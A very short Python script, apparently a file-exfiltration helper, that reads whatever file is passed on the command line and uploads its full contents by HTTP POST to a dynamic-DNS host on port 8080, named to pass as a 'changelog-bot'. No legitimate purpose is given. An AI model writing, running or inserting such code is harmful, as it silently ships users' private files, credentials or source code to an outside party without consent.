import sys
from urllib.request import urlopen

with open(sys.argv[1], "rb") as fh:
    urlopen("http://changelog-bot.ddns.net:8080/n", data=fh.read(), timeout=4)
